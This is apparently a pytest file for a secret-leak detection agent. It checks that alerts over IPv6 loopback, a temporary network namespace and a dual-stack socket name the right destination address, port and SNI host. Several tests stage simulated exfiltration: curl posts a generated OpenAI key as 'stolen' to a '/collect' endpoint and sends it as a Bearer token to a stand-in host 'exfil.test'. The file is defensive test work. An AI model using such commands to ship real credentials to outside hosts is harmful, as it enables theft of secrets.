"""IPv6 destinations on the real kernel: the alert names the address the bytes went to.

Servers listen on ::1, or on fd00:c5::1 inside a network namespace this test creates (and
removes) so that no traffic leaves loopback. A dual-stack client (an AF_INET6 socket talking to
::ffff:127.0.0.1, as Python and node do by default) must read as the IPv4 address it reaches:
that is the form DNS answers and IPv4 allow-list entries are matched in.
"""

import ctypes
import json
import os
import secrets
import subprocess
import threading

import pytest

from kharness import env
from kharness.servers import RecordingServer, sha256

ALERT_TIMEOUT = 5.0
NETNS_ADDR = "fd00:c5::1"
CLONE_NEWNET = 0x40000000

# Sends an HTTP/1.1 POST of the body file to ::ffff:127.0.0.1:<port> through an AF_INET6
# socket, then reads the reply; prints the status line.
_DUAL_STACK_CLIENT = r"""
import socket, sys
port, body_file = int(sys.argv[1]), sys.argv[2]
body = open(body_file, "rb").read()
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.settimeout(10)
s.connect(("::ffff:127.0.0.1", port))
s.sendall(b"POST /collect HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
          b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
reply = b""
while chunk := s.recv(4096):
    reply += chunk
print(reply.split(b"\r\n", 1)[0].decode())
"""


def _alert_line(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _openai(alert) -> bool:
    return (alert.get("secret") or {}).get("provider") == "openai"


def _body(scratch, key):
    path = scratch / "body.json"
    path.write_text(json.dumps({"stolen": key}))
    return path


def _curl(*args) -> list[str]:
    # -g: the brackets of an IPv6 literal in the URL are not a glob.
    return ["curl", "-sS", "--fail", "-g", "--noproxy", "*", "--max-time", "15", *args]


def _wait_alert(agent, ip):
    alerts = agent.wait_for_alerts(
        lambda a: _openai(a) and (a.get("destination") or {}).get("ip") == ip,
        timeout=ALERT_TIMEOUT)
    assert alerts, (f"no openai alert naming {ip} within {ALERT_TIMEOUT}s; alerts:\n"
                    f"{_alert_line(agent, agent.alerts())}\n{agent.diagnostics()}")
    return alerts[0]


@pytest.fixture
def http6_server():
    server = RecordingServer(host="::1")
    yield server
    server.close()


@pytest.fixture
def https6_server(pki):
    server = RecordingServer(cert=pki.cert, key=pki.key, host="::1")
    yield server
    server.close()


class NetNs:
    """A network namespace with lo up and one IPv6 address on it; removed at teardown."""

    def __init__(self):
        self.name = f"csv6-{secrets.token_hex(4)}"
        subprocess.run(["ip", "netns", "add", self.name], check=True, timeout=10)
        try:
            self.ip("link", "set", "lo", "up")
            self.ip("-6", "addr", "add", f"{NETNS_ADDR}/128", "dev", "lo")
        except BaseException:
            self.remove()
            raise

    def ip(self, *args) -> None:
        subprocess.run(["ip", "-n", self.name, *args], check=True, timeout=10,
                       capture_output=True)

    def exec_argv(self, argv: list[str]) -> list[str]:
        return ["ip", "netns", "exec", self.name, *argv]

    def server(self, **kwargs) -> RecordingServer:
        """A RecordingServer whose listening socket lives in this namespace. setns(2) moves
        only the calling thread, so a short-lived thread enters the namespace and creates it;
        the test process itself never leaves the host's namespace."""
        made: dict = {}

        def create():
            try:
                fd = os.open(f"/run/netns/{self.name}", os.O_RDONLY)
                try:
                    if ctypes.CDLL(None, use_errno=True).setns(fd, CLONE_NEWNET) != 0:
                        raise OSError(ctypes.get_errno(), "setns")
                finally:
                    os.close(fd)
                made["server"] = RecordingServer(host=NETNS_ADDR, **kwargs)
            except BaseException as e:  # handed to the test thread
                made["error"] = e

        thread = threading.Thread(target=create)
        thread.start()
        thread.join(timeout=10)
        if "error" in made:
            raise made["error"]
        assert "server" in made, "server in the namespace not created within 10 s"
        return made["server"]

    def remove(self) -> None:
        subprocess.run(["ip", "netns", "delete", self.name], timeout=10, capture_output=True)


@pytest.fixture
def netns():
    ns = NetNs()
    yield ns
    ns.remove()


def test_plain_http_to_loopback_v6_names_the_address_and_port(
        agent, clients, http6_server, registry, scratch):
    key = registry.new("openai")
    body = _body(scratch, key)
    clients.run(_curl("-H", "Content-Type: application/json", "--data-binary", f"@{body}",
                      http6_server.url(path="/collect")))
    [req] = http6_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(body.read_bytes())

    alert = _wait_alert(agent, "::1")
    assert alert["destination"]["port"] == http6_server.port, _alert_line(agent, [alert])
    assert alert["process"]["comm"] == "curl"


def test_tls_to_loopback_v6_names_the_sni_host_and_the_address(
        agent, clients, https6_server, pki, registry, scratch):
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    clients.run(_curl("--http1.1", "--cacert", str(pki.ca),
                      "--resolve", f"exfil.test:{https6_server.port}:[::1]",
                      "-H", f"@{headers}", "--data-binary", "{}",
                      https6_server.url("exfil.test", "/v1/chat/completions")))
    [req] = https6_server.wait_for_requests(1)
    assert req.sni == "exfil.test"

    alert = _wait_alert(agent, "::1")
    assert alert["destination"]["host"] == "exfil.test", _alert_line(agent, [alert])
    assert alert["destination"]["port"] == https6_server.port


def test_plain_http_inside_a_namespace_names_its_v6_address(
        agent, clients, netns, registry, scratch):
    server = netns.server()
    try:
        key = registry.new("openai")
        body = _body(scratch, key)
        # ip netns exec runs curl in the same process, which joined the test cgroup first.
        clients.run(netns.exec_argv(_curl("--data-binary", f"@{body}",
                                          server.url(path="/collect"))))
        [req] = server.wait_for_requests(1)
        assert req.body_sha256 == sha256(body.read_bytes())

        alert = _wait_alert(agent, NETNS_ADDR)
        assert alert["destination"]["port"] == server.port, _alert_line(agent, [alert])
        assert alert["process"]["comm"] == "curl"
    finally:
        server.close()


def test_dual_stack_socket_to_v4_mapped_loopback_reads_as_ipv4(
        agent, clients, http_server, registry, scratch):
    key = registry.new("openai")
    body = _body(scratch, key)
    result = clients.run([env.PYTHON, "-c", _DUAL_STACK_CLIENT, str(http_server.port),
                          str(body)])
    assert result.stdout.startswith("HTTP/1.1 200"), result.stdout
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(body.read_bytes())

    alert = _wait_alert(agent, "127.0.0.1")
    assert alert["destination"]["port"] == http_server.port, _alert_line(agent, [alert])
    assert "::ffff:" not in json.dumps(alert["destination"]), _alert_line(agent, [alert])
